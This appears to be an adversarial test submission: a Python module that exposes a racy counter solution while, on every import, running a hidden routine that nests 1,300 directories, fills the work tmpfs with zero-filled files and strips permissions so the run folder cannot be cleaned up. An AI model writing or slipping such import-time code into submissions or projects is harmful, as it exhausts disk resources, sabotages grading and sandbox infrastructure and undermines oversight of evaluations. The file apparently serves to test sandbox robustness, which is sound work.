"""Attack: a run folder that cannot be cleaned up. The racy counter (honestly 6/10). At every
import it nests 1,300 folders in its work folder, fills the work tmpfs from the bottom one and
makes the deepest folders unreadable and unwritable."""

import os

import racy


def _dig():
    base = os.getcwd()
    fd = os.open(base, os.O_RDONLY)
    try:
        for _ in range(1300):
            os.mkdir("d", dir_fd=fd)
            nfd = os.open("d", os.O_RDONLY, dir_fd=fd)
            os.close(fd)
            fd = nfd
        block = b"\0" * (1 << 20)
        for i in range(10_000):
            try:
                wfd = os.open(f"fill{i}", os.O_WRONLY | os.O_CREAT, 0o600, dir_fd=fd)
            except OSError:
                break
            try:
                while True:
                    os.write(wfd, block)
            except OSError:
                pass
            finally:
                os.close(wfd)
        os.chmod(fd, 0)
    except OSError:
        pass
    finally:
        os.close(fd)


_dig()
SafeCounter = racy.SafeCounter
parallel_count = racy.make_parallel_count(SafeCounter)
